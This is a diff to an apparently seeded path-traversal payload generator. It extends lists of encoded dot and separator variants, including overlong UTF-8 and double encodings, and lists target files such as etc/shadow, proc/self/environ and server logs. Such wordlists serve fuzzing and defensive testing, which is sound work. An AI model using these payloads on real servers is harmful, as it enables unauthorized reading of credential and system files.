@@ -22,12 +22,14 @@ RNG = random.Random(20261202)
 
 # ---- path traversal: climbing out of a root, with every encoding servers have undone ----
 
-DOTS = ["..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae",
+DOTS = ["%c0%2e%c0%2e", "%f0%80%80%ae%f0%80%80%ae", "..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae",
         "%u002e%u002e", "%uff0e%uff0e", "0x2e0x2e", "%%32%65%%32%65", "%25c0%25ae%25c0%25ae",
         "\u2025", "....", "...", "..."]
 SEPARATORS = ["/", "\\", "%2f", "%5c", "%252f", "%255c", "%c0%af", "%c1%9c", "%c0%2f", "%c0%5c",
               "%e0%80%af", "%u2215", "%u2216", "%uff0f", "%ef%bc%8f", "0x2f", "0x5c", "%%32%66",
-              "//", "\\\\", "/./", "%25c0%25af", "%c1%1c", "%c1%af"]
+              "//", "\\\\", "/./", "%25c0%25af", "%c1%1c", "%uEFC8", "%uF025",
+              "%f0%80%80%af", "%f8%80%80%80%af", "%fc%80%80%80%80%af", "%%35c", "%25%35%63",
+              "%25%32%66"]
 TARGETS = ["etc/passwd", "etc/shadow", "etc/issue", "etc/hosts", "etc/group", "windows/win.ini",
            "boot.ini", "winnt/win.ini", "windows/system32/drivers/etc/hosts", "proc/self/environ",
            "proc/self/cmdline", "var/log/apache2/access.log", "var/log/nginx/error.log",
